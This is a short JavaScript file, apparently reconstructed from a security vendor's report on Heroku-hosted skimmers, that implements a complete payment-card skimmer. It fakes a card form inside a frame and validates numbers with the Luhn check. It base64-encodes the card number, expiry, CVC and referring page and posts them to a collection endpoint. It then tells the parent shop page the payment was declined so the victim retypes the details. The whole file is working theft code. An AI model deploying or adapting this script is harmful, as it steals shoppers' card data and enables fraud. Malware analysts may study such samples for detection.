// heroku-frame (variant b), written from Malwarebytes Labs' report on skimmers hosted on the
// Heroku cloud platform (2019): the script served inside the frame on the cloud app, which
// looks like a payment provider's card form. On submit it checks the number with the Luhn
// formula, sends card, expiry and code with fetch to the app's own endpoint, and tells the
// parent page through postMessage that the payment "failed" so the shop's form comes back.
(function () {
  var form = document.getElementById("pay");
  if (!form) return;
  function luhn(n) {
    var s = 0, alt = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var d = +n.charAt(i);
      if (alt) { d *= 2; if (d > 9) d -= 9; }
      s += d; alt = !alt;
    }
    return s % 10 === 0;
  }
  form.addEventListener("submit", function (ev) {
    ev.preventDefault();
    var num = form.elements.number.value.replace(/\D/g, "");
    if (num.length < 13 || !luhn(num)) { form.classList.add("invalid"); return; }
    var card = { n: num, e: form.elements.exp.value, v: form.elements.cvc.value, o: document.referrer };
    var q = Object.keys(card).map(function (k) { return k + "=" + encodeURIComponent(card[k]); }).join("&");
    fetch("/api/collect", {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" },
      body: "p=" + encodeURIComponent(btoa(q))
    }).then(function () {
      parent.postMessage(JSON.stringify({ t: "cc", status: "declined" }), "*");
    }, function () {
      parent.postMessage(JSON.stringify({ t: "cc", status: "declined" }), "*");
    });
  });
})();
